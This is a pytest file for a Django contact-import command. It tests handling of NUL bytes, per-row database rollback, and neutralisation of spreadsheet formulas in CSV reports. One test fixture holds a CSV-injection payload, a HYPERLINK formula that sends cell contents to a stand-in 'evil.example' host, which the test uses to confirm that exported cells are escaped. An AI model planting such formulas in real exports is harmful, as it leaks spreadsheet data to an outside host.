"""Issue 9, roads 10 and 11 for the importer: bad cells are one invalid row, and no CSV the
product writes carries a spreadsheet formula."""

from __future__ import annotations

import csv
import io
import pathlib

import pytest
from django.core.management import CommandError, call_command
from django.db import DataError

import subscriptions
from subscriptions.consent import importing
from subscriptions.consent.importing import contacts_import
from subscriptions.csv_safety import csv_cell, csv_writer
from subscriptions.models import ConsentEvent, Contact, Subscription
from subscriptions.models.choices import ImportRowOutcome


def run(tmp_path, content: bytes, topic) -> tuple[str, list[list[str]]]:
    source = tmp_path / "contacts.csv"
    source.write_bytes(content)
    report = tmp_path / "report.csv"
    out = io.StringIO()
    try:
        call_command(
            "import_contacts",
            str(source),
            "--topic",
            topic.slug,
            "--source",
            "crm",
            "--no-progress",
            "--report",
            str(report),
            stdout=out,
            stderr=io.StringIO(),
        )
    except CommandError as error:  # invalid rows make the command exit non-zero
        out.write(f"\n{error}")
    with report.open(newline="") as file:
        return out.getvalue(), list(csv.reader(file))


def test_a_nul_byte_in_a_cell_is_one_invalid_row(tmp_path, topic):
    content = (
        b"email,first_name\n"
        b"ann@example.com,Ann\n"
        b"bob@example.com,B\x00b\n"
        b"cy@example.com,Cy\n"
        b"d\x00n@example.com,Dan\n"
    )
    out, report = run(tmp_path, content, topic)
    assert "4 rows: 2 contacts created" in out and "2 subscribed" in out and "2 invalid" in out
    invalid = {row[0]: row[4] for row in report[1:] if row[2] == "invalid"}
    assert invalid == {
        "3": "a NUL byte in column 'first_name'",
        "5": "a NUL byte in column 'email'",
    }
    assert sorted(Contact.objects.values_list("email", flat=True)) == [
        "ann@example.com",
        "cy@example.com",
    ]


def test_a_row_the_database_refuses_rolls_back_alone_and_is_not_reported_done(topic, monkeypatch):
    real = importing.subscription_subscribe

    def refuse_bob(*, contact, **kwargs):
        if contact.email == "bob@example.com":  # after bob's contact row was written
            raise DataError("value too long for type character varying(40)")
        return real(contact=contact, **kwargs)

    monkeypatch.setattr(importing, "subscription_subscribe", refuse_bob)
    outcomes = []
    summary = contacts_import(
        stream=io.BytesIO(b"email\nann@example.com\nbob@example.com\ncy@example.com\n"),
        topic=topic,
        source="crm",
        on_row=outcomes.append,
    )
    assert [(r.line, r.outcome) for r in outcomes] == [
        (2, ImportRowOutcome.SUBSCRIBED),
        (3, ImportRowOutcome.INVALID),
        (4, ImportRowOutcome.SUBSCRIBED),
    ]
    assert "cannot store" in outcomes[1].detail
    assert (summary.counts["created"], summary.counts[ImportRowOutcome.SUBSCRIBED]) == (2, 2)
    # Bob's half-done row left nothing behind: no contact, no subscription, no ledger row.
    assert not Contact.objects.filter(email="bob@example.com").exists()
    assert Subscription.objects.count() == ConsentEvent.objects.count() == 2


def test_a_header_with_a_nul_byte_is_refused_cleanly(tmp_path, topic):
    source = tmp_path / "contacts.csv"
    source.write_bytes(b"email,na\x00me\nann@example.com,Ann\n")
    with pytest.raises(CommandError, match="NUL"):
        call_command(
            "import_contacts", str(source), "--topic", topic.slug, "--source", "x", "--no-progress"
        )
    assert not Contact.objects.exists()


def test_the_import_report_never_carries_a_formula(tmp_path, topic):
    attack = '=HYPERLINK("https://evil.example/?"&A1,"Click")'
    content = f'email\n"{attack.replace(chr(34), chr(34) * 2)}"\n+1-555@example\n'.encode()
    _out, report = run(tmp_path, content, topic)
    cells = [cell for row in report for cell in row]
    assert f"'{attack}" in cells
    assert not [cell for cell in cells if cell[:1] in ("=", "+", "-", "@", "\t", "\r")]


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+45 1234", "'+45 1234"),
        ("-2", "'-2"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("ann@example.com", "ann@example.com"),
        (3, 3),
    ],
)
def test_csv_cell_neutralises_formula_starts(value, written):
    assert csv_cell(value) == written
    buffer = io.StringIO()
    csv_writer(buffer).writerow([value])
    assert next(csv.reader(io.StringIO(buffer.getvalue())))[0] == str(written)


def test_every_csv_the_product_writes_goes_through_the_helper():
    package = pathlib.Path(subscriptions.__file__).parent
    writers = [
        str(path.relative_to(package))
        for path in package.rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["csv_safety.py"]
